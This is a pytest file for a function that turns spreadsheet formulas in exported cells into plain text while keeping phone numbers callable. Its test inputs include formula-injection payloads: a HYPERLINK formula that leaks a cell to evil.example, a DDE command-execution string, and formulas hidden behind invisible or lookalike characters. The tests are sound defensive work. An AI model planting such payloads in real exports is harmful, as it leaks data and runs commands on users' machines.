"""No cell of an export is a formula to a spreadsheet, and a phone number stays one to call."""

import pytest

from desk.spreadsheet_cells import cell


@pytest.mark.parametrize("text", [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0",
    " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\u2060@x",
    "＝1+1", "＋1", "－1", "＠x", "﹦1", "﹢1", "﹣1", "﹫x", "⁼1", "⁺1", "⁻1", "−1", "\tx", "\rx", "\nx", "\0x", "+12025550101", "+1 x",
])  # fmt: skip
def test_a_formula_becomes_text(text: str) -> None:
    """Whatever stands in front of it, at whatever width."""
    assert f"'{text}" == cell(text)


@pytest.mark.parametrize(("value", "written"), [
    ("Alice Archer", "Alice Archer"), ("", ""), ("a=b", "a=b"), ("alice@example.com", "alice@example.com"), (True, "True"),
    ("(202) 555-0101", "(202) 555-0101"), ("+52 55 1234 5678", "(+52) 55 1234 5678"), (["tms", "dbt"], "tms, dbt"),
    (["=1", "x"], "'=1, x"),
])  # fmt: skip
def test_other_text_stays_as_it_is(value: object, written: str) -> None:
    """Numbers to call too."""
    assert written == cell(value)


def test_a_long_text_is_looked_at_in_no_time() -> None:
    """No pattern goes back and forth over it."""
    assert "'+" + "1" * 100_000 + "x" == cell("+" + "1" * 100_000 + "x")
